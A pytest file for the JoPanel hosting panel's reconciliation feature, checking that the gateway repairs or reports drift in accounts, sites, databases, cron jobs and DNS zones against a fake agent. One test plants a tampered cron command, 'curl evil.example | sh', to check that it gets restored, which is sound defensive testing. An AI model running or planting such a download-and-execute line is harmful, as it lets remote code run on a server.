"""Reconcile against the fake agent: each kind of crash leftover and of drift made by hand, what
is repaired (and audited), and what is only reported. The fake's state is edited directly to
make the system disagree with the records, as a crash or a person at the server would."""

from __future__ import annotations

import asyncio
from typing import Any

import grpc
import pytest
from jopanel.agent.accounts.v1 import accounts_pb2 as pb
from jopanel.agent.cron.v1 import cron_pb2 as cron_pb
from jopanel.agent.dns.v1 import dns_pb2 as dns_pb
from jopanel.agent.web.v1 import web_pb2 as web_pb

from gateway import keys
from gateway.app import create_app
from gateway.config import GatewayConfig
from gateway.consistency import outcome_unknown
from gateway.db import execute, fetch_one
from tests.gateway.conftest import Api, FakeAgent
from tests.gateway.fake_agent import TOO_LARGE_ZONE

Findings = list[dict[str, Any]]


def _app(api: Api) -> Any:
    return api.client.app


async def sql(api: Api, statement: str, *args: Any) -> None:
    await execute(_app(api)[keys.DB], statement, args)


async def status_of(api: Api, table: str, name: str) -> str | None:
    column = "public_id" if table == "cron_jobs" else "name"
    if table == "accounts":
        row = await fetch_one(
            _app(api)[keys.DB],
            "SELECT a.status FROM accounts a JOIN users u ON u.id = a.user_id WHERE u.name = %s",
            (name,),
        )
    else:
        row = await fetch_one(
            _app(api)[keys.DB],
            f"SELECT status FROM {table} WHERE {column} = %s",  # noqa: S608 - the test's own names
            (name,),
        )
    return None if row is None else str(row["status"])


async def reconcile(api: Api, admin: str) -> dict[str, Any]:
    status, report = await api.call("POST", "/api/v1/reconcile", admin)
    assert status == 200, report
    return dict(report)


def found(report: dict[str, Any], resource: str, name: str) -> list[tuple[str, str]]:
    return [
        (f["outcome"], f["difference"])
        for f in report["findings"]
        if f["resource"] == resource and f["name"] == name
    ]


def outcomes(report: dict[str, Any], resource: str, name: str) -> list[str]:
    return [outcome for outcome, _ in found(report, resource, name)]


async def site(api: Api, admin: str, name: str = "alice.com", **body: Any) -> None:
    status, reply = await api.call(
        "POST", "/api/v1/domains", admin, json={"name": name, "account": "alice", **body}
    )
    assert status == 201, reply


# --- the report and who may ask for it ----------------------------------------------------------


async def test_a_consistent_panel_reports_nothing(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin, dns_zone=True)
    report = await reconcile(api, admin)
    assert report["findings"] == []
    counts = {r["resource"]: r["checked"] for r in report["resources"]}
    assert (counts["account"], counts["domain"], counts["dns_record"]) == (1, 1, 5)
    status, state = await api.call("GET", "/api/v1/reconcile", admin)
    assert (status, state["running"]) == (200, False)
    assert (state["last"]["trigger"], state["last"]["actor"]) == ("request", "admin")


async def test_owners_may_not_reconcile(api: Api, admin: str) -> None:
    alice = await api.owner(admin)
    for method in ("POST", "GET"):
        status, body = await api.call(method, "/api/v1/reconcile", alice)
        assert status == 403, body
    assert not any(call.startswith("List") for call in api.agent.calls)


async def test_an_agent_that_does_not_answer_is_a_503_and_changes_nothing(
    api: Api, admin: str
) -> None:
    await api.create_account(admin, "alice")
    api.agent.fail_next = grpc.StatusCode.UNAVAILABLE
    await sql(api, "UPDATE accounts SET status = 'pending'")
    status, _ = await api.call("POST", "/api/v1/reconcile", admin)
    assert status == 503
    assert await status_of(api, "accounts", "alice") == "pending"


async def test_the_gateway_starts_while_the_agent_is_down_and_reconciles_later(
    api: Api, admin: str, config: GatewayConfig
) -> None:
    """A second gateway on the same records, at start: its reconcile runs in the background,
    fails while the agent does not answer, and tries again."""
    await api.create_account(admin, "alice")
    await sql(api, "UPDATE accounts SET status = 'pending'")
    gone = GatewayConfig(
        agent_socket="/nonexistent/agent.sock",
        database=config.database,
        auth=config.auth,
        reconcile_in_background=True,
    )
    from aiohttp.test_utils import TestClient, TestServer

    client: TestClient[Any, Any] = TestClient(TestServer(create_app(gone)))
    await client.start_server()  # returns although the agent cannot be reached
    try:
        response = await client.post(
            "/api/v1/auth/login", json={"username": "admin", "password": "admin-password-1"}
        )
        assert response.status == 200
        reconciler = client.app[keys.RECONCILER]
        assert reconciler.last is None
    finally:
        await client.close()
    assert await status_of(api, "accounts", "alice") == "pending"


async def test_the_reconcile_in_background_settles_what_a_crash_left(
    api: Api, admin: str, config: GatewayConfig
) -> None:
    await api.create_account(admin, "alice")
    await sql(api, "UPDATE accounts SET status = 'pending'")
    restarted = GatewayConfig(
        agent_socket=config.agent_socket,
        database=config.database,
        auth=config.auth,
        reconcile_in_background=True,
    )
    from aiohttp.test_utils import TestClient, TestServer

    client: TestClient[Any, Any] = TestClient(TestServer(create_app(restarted)))
    await client.start_server()
    try:
        reconciler = client.app[keys.RECONCILER]
        # The background run: wait for its report (bounded), not for a clock.
        await asyncio.wait_for(reconciler.reported.wait(), timeout=30)
        assert reconciler.last is not None
        assert (reconciler.last.trigger, reconciler.last.actor) == ("start", "system")
    finally:
        await client.close()
    assert await status_of(api, "accounts", "alice") == "active"


# --- accounts ----------------------------------------------------------------------------------


async def test_pending_account_on_the_system_becomes_active(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await sql(api, "UPDATE accounts SET status = 'pending'")
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "alice") == ["repaired"]
    assert await status_of(api, "accounts", "alice") == "active"


async def test_pending_account_missing_from_the_system_is_created_again(
    api: Api, admin: str
) -> None:
    """The agent may finish a creation after the gateway that asked for it died: applying it
    again (idempotent) cannot leave a Linux user without a record, a roll-back could."""
    await api.create_account(admin, "alice")
    await sql(api, "UPDATE accounts SET status = 'pending'")
    del api.agent.accounts["alice"]
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "alice") == ["repaired"]
    assert await status_of(api, "accounts", "alice") == "active"
    assert "alice" in api.agent.accounts
    assert await api.login("alice", "owner-pass-1")  # the panel password still signs in


async def test_pending_account_the_agent_refuses_is_rolled_back(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await sql(api, "UPDATE accounts SET status = 'pending'")
    del api.agent.accounts["alice"]
    api.agent.fail_call = "CreateAccount alice"
    api.agent.fail_call_code = grpc.StatusCode.FAILED_PRECONDITION
    report = await reconcile(api, admin)
    (finding,) = [f for f in report["findings"] if f["name"] == "alice"]
    assert finding["outcome"] == "repaired"
    assert finding["action"].startswith("rolled back: the agent refuses it (FAILED_PRECONDITION")
    assert await status_of(api, "accounts", "alice") is None


async def test_a_pending_creation_stays_pending_while_the_agent_is_unavailable(
    api: Api, admin: str
) -> None:
    await api.create_account(admin, "alice")
    await sql(api, "UPDATE accounts SET status = 'pending'")
    del api.agent.accounts["alice"]
    api.agent.fail_call = "CreateAccount alice"
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "alice") == ["failed"]
    assert await status_of(api, "accounts", "alice") == "pending"


async def test_a_reconcile_waits_for_the_writes_under_way(api: Api, admin: str) -> None:
    """A pending record it saw would be a request still at work, not a crash: the reconcile
    waits until no write is under way, and writes that arrive meanwhile wait for it, so it
    never settles (or undoes) a live creation."""
    await api.create_account(admin, "alice")
    release = api.web.hold = asyncio.Event()
    creating = asyncio.create_task(site(api, admin))
    await api.web.held.wait()  # the site's record is pending, its agent call under way
    reconciling = asyncio.create_task(reconcile(api, admin))
    barrier = _app(api)[keys.RECONCILER].barrier
    while not barrier.is_closed:  # noqa: ASYNC110 - yields to the request, no clock
        await asyncio.sleep(0)
    later = asyncio.create_task(site(api, admin, "later.com"))
    release.set()
    await creating
    report = await reconciling
    await later
    assert report["findings"] == []
    assert report["resources"][1]["checked"] == 1  # alice.com, not yet later.com
    assert await status_of(api, "domains", "alice.com") == "active"


async def test_deleting_account_is_finished_with_its_sites_and_zones(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin, dns_zone=True)
    await sql(api, "UPDATE accounts SET status = 'deleting'")
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "alice") == ["repaired"]
    assert await status_of(api, "accounts", "alice") is None
    assert "alice" not in api.agent.accounts
    assert (api.web.domains, api.dns.zones) == ({}, {})


async def test_linux_user_removed_by_hand_is_created_again(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice", shell="bash")
    await api.call("POST", "/api/v1/accounts/alice/suspend", admin)
    del api.agent.accounts["alice"]
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "alice") == ["repaired"]
    again = api.agent.accounts["alice"]
    assert (again.shell, again.suspended) == (pb.SHELL_BASH, True)
    assert api.agent.passwords["alice"] == ""  # locked: the panel keeps no system password


async def test_suspension_shell_and_quota_changed_by_hand_are_applied_again(
    api: Api, admin: str
) -> None:
    await api.create_account(admin, "alice")
    api.agent.accounts["alice"].suspended = True
    api.agent.accounts["alice"].shell = pb.SHELL_BASH
    api.agent.accounts["alice"].disk.limit_bytes = 12345
    api.agent.accounts["alice"].disk.inode_limit = 77
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "alice") == ["repaired", "repaired"]
    account = api.agent.accounts["alice"]
    assert (account.suspended, account.shell, account.disk.limit_bytes) == (
        False,
        pb.SHELL_NOLOGIN,
        0,
    )
    assert account.disk.inode_limit == 0


async def test_a_shell_set_outside_the_panel_is_drift(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    api.agent.accounts["alice"].shell = pb.SHELL_UNSPECIFIED
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "alice") == ["drift"]
    assert api.agent.accounts["alice"].shell == pb.SHELL_UNSPECIFIED


async def test_a_linux_account_without_a_record_is_reported_and_kept(api: Api, admin: str) -> None:
    api.agent.accounts["mallory"] = pb.Account(name="mallory", uid=2000, home="/home/mallory")
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "mallory") == ["drift"]
    assert "mallory" in api.agent.accounts
    assert not any(c.startswith("DeleteAccount") for c in api.agent.calls)


# --- websites ----------------------------------------------------------------------------------


async def test_pending_site_is_settled_either_way(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin, "served.com")
    await site(api, admin, "lost.com")
    await sql(api, "UPDATE domains SET status = 'pending'")
    del api.web.domains["lost.com"]
    report = await reconcile(api, admin)
    assert outcomes(report, "domain", "served.com") == ["repaired"]
    assert outcomes(report, "domain", "lost.com") == ["repaired"]
    assert await status_of(api, "domains", "served.com") == "active"
    assert await status_of(api, "domains", "lost.com") == "active"
    assert api.web.domains["lost.com"].account == "alice"


async def test_deleting_site_is_finished_and_its_files_kept(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin)
    await sql(api, "UPDATE domains SET status = 'deleting'")
    report = await reconcile(api, admin)
    assert found(report, "domain", "alice.com") == [
        ("repaired", "deleting: the deletion was cut short")
    ]
    assert await status_of(api, "domains", "alice.com") is None
    assert api.web.domains == {}
    assert "files stay" in next(f["action"] for f in report["findings"])


@pytest.mark.parametrize(
    "backend",
    [
        {"type": "redirect", "url": "https://example.org/", "code": 302},
        {"type": "proxy", "socket_path": "/home/.apps/alice/shop.sock"},
        {"type": "php", "version": "8.2"},
    ],
    ids=["redirect", "socket", "php"],
)
async def test_site_configuration_deleted_by_hand_is_created_again_as_recorded(
    api: Api, admin: str, backend: dict[str, Any]
) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin, aliases=["www.alice.com"], backend=backend)
    await api.call("POST", "/api/v1/domains/alice.com/suspend", admin)
    before = web_pb.WebDomain()
    before.CopyFrom(api.web.domains.pop("alice.com"))
    report = await reconcile(api, admin)
    assert outcomes(report, "domain", "alice.com") == ["repaired"]
    assert api.web.domains["alice.com"] == before


async def test_aliases_backend_and_suspension_changed_by_hand_are_applied_again(
    api: Api, admin: str
) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin, aliases=["www.alice.com"], backend={"type": "static"})
    served = api.web.domains["alice.com"]
    del served.aliases[:]
    served.proxy.port = 8081
    served.suspended = True
    report = await reconcile(api, admin)
    assert outcomes(report, "domain", "alice.com") == ["repaired", "repaired"]
    served = api.web.domains["alice.com"]
    assert list(served.aliases) == ["www.alice.com"]
    assert (served.WhichOneof("backend"), served.suspended) == ("static", False)


async def test_sites_without_record_or_of_another_account_are_drift(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await api.create_account(admin, "bob")
    await site(api, admin)
    api.web.domains["alice.com"].account = "bob"
    api.web.domains["stray.com"] = web_pb.WebDomain(name="stray.com", account="bob")
    report = await reconcile(api, admin)
    assert outcomes(report, "domain", "alice.com") == ["drift"]
    assert outcomes(report, "domain", "stray.com") == ["drift"]
    assert set(api.web.domains) == {"alice.com", "stray.com"}
    assert api.web.domains["alice.com"].account == "bob"


# --- databases ---------------------------------------------------------------------------------


async def database(api: Api, admin: str, name: str) -> None:
    status, body = await api.call(
        "POST", "/api/v1/databases", admin, json={"name": name, "account": "alice"}
    )
    assert status == 201, body


async def database_user(api: Api, admin: str, name: str, databases: list[str]) -> None:
    status, body = await api.call(
        "POST",
        "/api/v1/database-users",
        admin,
        json={"name": name, "account": "alice", "password": "db-pass-123", "databases": databases},
    )
    assert status == 201, body


async def test_databases_pending_deleting_and_missing(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    for name in ("alice_kept", "alice_lost", "alice_gone", "alice_wiped"):
        await database(api, admin, name)
    await sql(
        api,
        "UPDATE hosted_databases SET status = 'pending' WHERE name IN ('alice_kept', 'alice_lost')",
    )
    await sql(api, "UPDATE hosted_databases SET status = 'deleting' WHERE name = 'alice_gone'")
    del api.databases.databases["alice_lost"]
    del api.databases.databases["alice_wiped"]
    api.databases.databases["alice_stray"] = "alice"
    report = await reconcile(api, admin)
    for name in ("alice_kept", "alice_lost", "alice_gone", "alice_wiped"):
        assert outcomes(report, "database", name) == ["repaired"], name
    assert outcomes(report, "database", "alice_stray") == ["drift"]
    assert await status_of(api, "hosted_databases", "alice_kept") == "active"
    assert await status_of(api, "hosted_databases", "alice_lost") == "active"
    assert await status_of(api, "hosted_databases", "alice_gone") is None
    assert set(api.databases.databases) == {
        "alice_kept",
        "alice_lost",
        "alice_wiped",
        "alice_stray",
    }


async def test_every_accounts_databases_and_users_are_read_page_by_page(
    api: Api, admin: str
) -> None:
    """The agent's lists come a page at a time: what is on a later page is not missing."""
    await api.create_account(admin, "alice")
    for name in ("alice_a", "alice_b", "alice_c", "alice_d", "alice_e"):
        await database(api, admin, name)
    for name in ("alice_u1", "alice_u2", "alice_u3", "alice_u4"):
        await database_user(api, admin, name, ["alice_e"])
    api.databases.page_cap = 2
    del api.databases.databases["alice_c"]
    api.databases.databases["alice_f"] = "alice"  # on the last page, made by hand
    api.databases.grants.discard(("alice_u4", "alice_e"))
    report = await reconcile(api, admin)
    for name in ("alice_a", "alice_b", "alice_d", "alice_e"):
        assert found(report, "database", name) == [], name
    assert outcomes(report, "database", "alice_c") == ["repaired"]
    assert outcomes(report, "database", "alice_f") == ["drift"]
    for name in ("alice_u1", "alice_u2", "alice_u3"):
        assert found(report, "database_user", name) == [], name
    assert outcomes(report, "database_user", "alice_u4") == ["repaired"]
    assert ("alice_u4", "alice_e") in api.databases.grants


async def test_databases_the_agent_cannot_list_are_left_alone_and_the_run_goes_on(
    api: Api, admin: str
) -> None:
    """A list the agent refuses (its ownership record damaged) is one failed finding: no
    database is taken for missing or made again, and the other resources are reconciled."""
    await api.create_account(admin, "alice")
    await database(api, admin, "alice_shop")
    await database_user(api, admin, "alice_app", ["alice_shop"])
    await site(api, admin)
    del api.web.domains["alice.com"]
    api.databases.lists_fail = grpc.StatusCode.INTERNAL
    calls = len(api.databases.calls)

    report = await reconcile(api, admin)

    assert outcomes(report, "database", "every account's") == ["failed"]
    assert outcomes(report, "database_user", "every account's") == ["failed"]
    assert outcomes(report, "database", "alice_shop") == []
    assert outcomes(report, "database_user", "alice_app") == []
    assert api.databases.calls[calls:] == []
    assert outcomes(report, "domain", "alice.com") == ["repaired"]


async def test_database_users_grants_follow_the_records(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await database(api, admin, "alice_shop")
    await database(api, admin, "alice_blog")
    await database_user(api, admin, "alice_rw", ["alice_shop"])
    await database_user(api, admin, "alice_lost", [])
    api.databases.grants = {("alice_rw", "alice_blog")}  # one lost, one given by hand
    del api.databases.users["alice_lost"]
    report = await reconcile(api, admin)
    assert outcomes(report, "database_user", "alice_rw") == ["repaired", "repaired"]
    assert api.databases.grants == {("alice_rw", "alice_shop")}
    assert outcomes(report, "database_user", "alice_lost") == ["drift"]  # no password kept
    assert "alice_lost" not in api.databases.users


async def test_a_pending_database_user_is_rolled_back_everywhere(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await database_user(api, admin, "alice_rw", [])
    await sql(api, "UPDATE database_users SET status = 'pending'")
    del api.databases.users["alice_rw"]
    report = await reconcile(api, admin)
    assert outcomes(report, "database_user", "alice_rw") == ["repaired"]
    assert await status_of(api, "database_users", "alice_rw") is None
    assert "DeleteDatabaseUser alice_rw" in api.databases.calls


# --- cron jobs ---------------------------------------------------------------------------------


async def job(api: Api, admin: str, command: str = "echo hi") -> str:
    status, body = await api.call(
        "POST",
        "/api/v1/cron-jobs",
        admin,
        json={"schedule": "@daily", "command": command, "account": "alice"},
    )
    assert status == 201, body
    return str(body["id"])


async def test_cron_jobs_missing_changed_and_unknown(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    lost, changed = await job(api, admin, "echo lost"), await job(api, admin, "echo changed")
    jobs = api.cron.jobs["alice"]
    del jobs[lost]
    jobs[changed].command = "curl evil.example | sh"
    jobs["0123456789abcdef"] = cron_pb.CronJob(id="0123456789abcdef", schedule="@daily")
    report = await reconcile(api, admin)
    assert outcomes(report, "cron_job", lost) == ["repaired"]
    assert outcomes(report, "cron_job", changed) == ["repaired"]
    assert outcomes(report, "cron_job", "0123456789abcdef") == ["drift"]
    assert (jobs[lost].command, jobs[changed].command) == ("echo lost", "echo changed")
    assert "0123456789abcdef" in jobs


async def test_a_crontab_removed_by_hand_is_installed_again(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await job(api, admin)
    api.cron.uninstalled.add("alice")
    report = await reconcile(api, admin)
    assert [f["difference"] for f in report["findings"]] == [
        "the account's crontab was removed or edited outside JoPanel"
    ]
    assert api.cron.uninstalled == set()


async def test_the_accounts_lists_are_read_in_batches_and_one_refused_fails_alone(
    api: Api, admin: str, fake_agent: FakeAgent
) -> None:
    """Every account's cron jobs (and SSH keys and access, and VPN clients) are asked for in
    Batch calls, not one account after another; where the agent ends an answer early (its
    size bound) the rest is asked again; one account the agent would not describe is a failed
    finding, and the other accounts are reconciled."""
    for account in ("alice", "bob", "carol"):
        await api.create_account(admin, account)
        body = {"schedule": "@daily", "command": "echo hi", "account": account}
        assert (await api.call("POST", "/api/v1/cron-jobs", admin, json=body))[0] == 201
    api.cron.uninstalled |= {"alice", "bob", "carol"}
    api.cron.refused.add("bob")
    api.cron.batch_limit = 2
    api.ssh.batch_limit = 1
    report = await reconcile(api, admin)
    assert api.cron.batches == [["alice", "bob", "carol"], ["carol"]]
    assert api.ssh.batches == [["alice", "bob", "carol"], ["bob", "carol"], ["carol"]]
    assert fake_agent.vpn.batches == [["admin", "alice", "bob", "carol"]]
    assert outcomes(report, "cron_job", "bob") == ["failed"]
    assert found(report, "cron_job", "bob") == [
        ("failed", "the agent did not describe it (INTERNAL: the crontab is unreadable)")
    ]
    assert api.cron.uninstalled == {"bob"}
    assert [f["account"] for f in report["findings"] if f["outcome"] == "repaired"] == [
        "alice",
        "carol",
    ]


async def test_a_batch_the_agent_refuses_whole_fails_each_of_its_accounts(
    api: Api, admin: str
) -> None:
    for account in ("alice", "bob"):
        await api.create_account(admin, account)
    api.ssh.refuse_batches = grpc.StatusCode.INTERNAL
    report = await reconcile(api, admin)
    why = "the agent did not describe it (INTERNAL: the fake agent was told to refuse it)"
    assert found(report, "ssh_key", "alice") == found(report, "ssh_key", "bob") == [("failed", why)]
    # The other resources were read and reconciled all the same.
    assert api.cron.batches == [["alice", "bob"]]


async def test_cron_jobs_pending_and_deleting(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    kept, lost, gone = await job(api, admin), await job(api, admin), await job(api, admin)
    await sql(
        api, "UPDATE cron_jobs SET status = 'pending' WHERE public_id IN (%s, %s)", kept, lost
    )
    await sql(api, "UPDATE cron_jobs SET status = 'deleting' WHERE public_id = %s", gone)
    del api.cron.jobs["alice"][lost]
    report = await reconcile(api, admin)
    assert [outcomes(report, "cron_job", j) for j in (kept, lost, gone)] == [["repaired"]] * 3
    assert await status_of(api, "cron_jobs", kept) == "active"
    assert await status_of(api, "cron_jobs", lost) == "active"
    assert await status_of(api, "cron_jobs", gone) is None
    assert set(api.cron.jobs["alice"]) == {kept, lost}


# --- DNS ---------------------------------------------------------------------------------------


async def test_a_zone_gone_from_the_server_is_served_again_with_its_records(
    api: Api, admin: str
) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin, dns_zone=True)
    records = {r.id: r for r in api.dns.zones.pop("alice.com").records}
    report = await reconcile(api, admin)
    assert outcomes(report, "dns_zone", "alice.com") == ["repaired"]
    assert {r.id: r for r in api.dns.zones["alice.com"].records} == records


async def test_zone_records_follow_the_recorded_ones(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin, dns_zone=True)
    zone = api.dns.zones["alice.com"]
    lost, changed = zone.records[0].id, zone.records[1].id
    wanted = {r.id: dns_pb.DnsRecord().FromString(r.SerializeToString()) for r in zone.records}
    del zone.records[0]
    zone.records[0].a.address = "10.6.6.6"
    zone.records.append(dns_pb.DnsRecord(id="feedfeedfeedfeed", name="evil", a=dns_pb.ARecord()))
    report = await reconcile(api, admin)
    assert outcomes(report, "dns_record", f"alice.com/{lost}") == ["repaired"]
    assert outcomes(report, "dns_record", f"alice.com/{changed}") == ["repaired"]
    assert outcomes(report, "dns_record", "alice.com/feedfeedfeedfeed") == ["repaired"]
    assert {r.id: r for r in api.dns.zones["alice.com"].records} == wanted


async def test_a_zone_the_agent_cannot_send_fails_alone_and_the_run_goes_on(
    api: Api, admin: str
) -> None:
    """A tenant's zone too large for one answer (grown before zones were bounded, or edited by
    hand) is a failed finding of its own; the other tenants' zones, and the certificates that
    come after the zones, are still reconciled."""
    await api.create_account(admin, "alice")
    await api.create_account(admin, "bob")
    await site(api, admin, dns_zone=True)
    body = {"name": "bob.com", "account": "bob", "dns_zone": True}
    assert (await api.call("POST", "/api/v1/domains", admin, json=body))[0] == 201
    api.dns.too_large.add("alice.com")
    lost = api.dns.zones["bob.com"].records[0].id
    del api.dns.zones["bob.com"].records[0]

    report = await reconcile(api, admin)

    assert found(report, "dns_zone", "alice.com") == [
        ("failed", f"the agent did not describe it (RESOURCE_EXHAUSTED: {TOO_LARGE_ZONE})")
    ]
    assert [f["account"] for f in report["findings"] if f["name"] == "alice.com"] == ["alice"]
    assert outcomes(report, "dns_record", f"bob.com/{lost}") == ["repaired"]
    assert lost in api.dns.records("bob.com")
    checked = {r["resource"]: r["checked"] for r in report["resources"]}
    assert checked["certificate"] > 0  # checked after the zones


async def test_zones_pending_deleting_and_unknown(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    for name in ("kept.com", "lost.com", "gone.com"):
        await site(api, admin, name, dns_zone=True)
    await sql(api, "UPDATE dns_zones SET status = 'pending' WHERE name IN ('kept.com', 'lost.com')")
    await sql(api, "UPDATE dns_zones SET status = 'deleting' WHERE name = 'gone.com'")
    del api.dns.zones["lost.com"]
    api.dns.zones["stray.com"] = dns_pb.DnsZone(name="stray.com", account="alice")
    report = await reconcile(api, admin)
    for name in ("kept.com", "lost.com", "gone.com"):
        assert outcomes(report, "dns_zone", name) == ["repaired"], name
    assert outcomes(report, "dns_zone", "stray.com") == ["drift"]
    assert await status_of(api, "dns_zones", "kept.com") == "active"
    assert await status_of(api, "dns_zones", "lost.com") == "active"
    assert len(api.dns.zones["lost.com"].records) == 5  # its recorded records
    assert set(api.dns.zones) == {"kept.com", "lost.com", "stray.com"}


# --- the audit log -----------------------------------------------------------------------------


async def test_every_repair_is_in_the_audit_log(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin)
    del api.agent.accounts["alice"]
    api.web.fail_call = "CreateWebDomain alice.com"
    api.web.domains.pop("alice.com")
    report = await reconcile(api, admin)
    assert outcomes(report, "account", "alice") == ["repaired"]
    assert outcomes(report, "domain", "alice.com") == ["failed"]
    status, log = await api.call("GET", "/api/v1/audit-log?limit=3", admin)
    assert status == 200
    entries = [(e["actor"], e["action"], e["target"], e["result"]) for e in log["items"]]
    assert entries == [
        ("admin", "reconcile.run", "request", "error"),
        ("admin", "reconcile.domain", "alice.com", "error"),
        ("admin", "reconcile.account", "alice", "ok"),
    ]
    assert "UNAVAILABLE" in log["items"][1]["detail"]


# --- unknown outcomes ----------------------------------------------------------------------------


def rpc_error(code: grpc.StatusCode, details: str) -> grpc.aio.AioRpcError:
    return grpc.aio.AioRpcError(code, grpc.aio.Metadata(), grpc.aio.Metadata(), details, None)


def test_which_agent_answers_leave_the_outcome_unknown() -> None:
    broken = "Socket closed"
    assert outcome_unknown(rpc_error(grpc.StatusCode.UNAVAILABLE, broken))
    assert outcome_unknown(rpc_error(grpc.StatusCode.DEADLINE_EXCEEDED, "Deadline Exceeded"))
    assert outcome_unknown(rpc_error(grpc.StatusCode.UNAVAILABLE, "MariaDB went away; try again"))
    never_sent = "failed to connect to all addresses; last error: UNAVAILABLE: unix:/x.sock"
    assert not outcome_unknown(rpc_error(grpc.StatusCode.UNAVAILABLE, never_sent))
    for refused in (grpc.StatusCode.FAILED_PRECONDITION, grpc.StatusCode.INTERNAL):
        assert not outcome_unknown(rpc_error(refused, "no"))


async def test_a_deletion_cut_short_by_the_agent_is_finished_by_the_reconcile(
    api: Api, admin: str
) -> None:
    await api.create_account(admin, "alice")
    await site(api, admin)
    api.web.fail_call = "DeleteWebDomain alice.com"  # UNAVAILABLE: the agent may have done it
    status, _ = await api.call("DELETE", "/api/v1/domains/alice.com", admin)
    assert status == 503
    assert await status_of(api, "domains", "alice.com") == "deleting"
    report = await reconcile(api, admin)
    assert outcomes(report, "domain", "alice.com") == ["repaired"]
    assert await status_of(api, "domains", "alice.com") is None
    assert api.web.domains == {}


async def test_an_unknown_outcome_starts_a_reconcile_in_the_background(
    api: Api, admin: str, config: GatewayConfig
) -> None:
    await api.create_account(admin, "alice")
    restarted = GatewayConfig(
        agent_socket=config.agent_socket,
        database=config.database,
        auth=config.auth,
        reconcile_in_background=True,
    )
    from aiohttp.test_utils import TestClient, TestServer

    client: TestClient[Any, Any] = TestClient(TestServer(create_app(restarted)))
    await client.start_server()
    try:
        reconciler = client.app[keys.RECONCILER]
        await asyncio.wait_for(reconciler.reported.wait(), timeout=30)  # the one at start
        reconciler.reported.clear()
        other = Api(client, api.agent, api.web, api.databases, api.cron, api.dns, api.ssh)
        token = await other.login("admin", "admin-password-1")
        api.web.fail_call = "CreateWebDomain alice.com"
        status, _ = await other.call(
            "POST", "/api/v1/domains", token, json={"name": "alice.com", "account": "alice"}
        )
        assert status == 503
        await asyncio.wait_for(reconciler.reported.wait(), timeout=30)
        assert reconciler.last is not None
        assert reconciler.last.trigger == "recovery"
    finally:
        await client.close()
    assert await status_of(api, "domains", "alice.com") == "active"
    assert "alice.com" in api.web.domains


async def test_database_users_deleting_and_unknown(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await database_user(api, admin, "alice_gone", [])
    await sql(api, "UPDATE database_users SET status = 'deleting'")
    api.databases.users["alice_stray"] = "alice"
    report = await reconcile(api, admin)
    assert outcomes(report, "database_user", "alice_gone") == ["repaired"]
    assert outcomes(report, "database_user", "alice_stray") == ["drift"]
    assert await status_of(api, "database_users", "alice_gone") is None
    assert set(api.databases.users) == {"alice_stray"}


async def test_a_zone_served_for_another_account_is_drift(api: Api, admin: str) -> None:
    await api.create_account(admin, "alice")
    await api.create_account(admin, "bob")
    await site(api, admin, dns_zone=True)
    api.dns.zones["alice.com"].account = "bob"
    report = await reconcile(api, admin)
    assert found(report, "dns_zone", "alice.com") == [("drift", "served for another account, bob")]
    assert api.dns.zones["alice.com"].account == "bob"
    assert not any(c.startswith(("CreateDnsRecord", "DeleteDnsRecord")) for c in api.dns.calls)
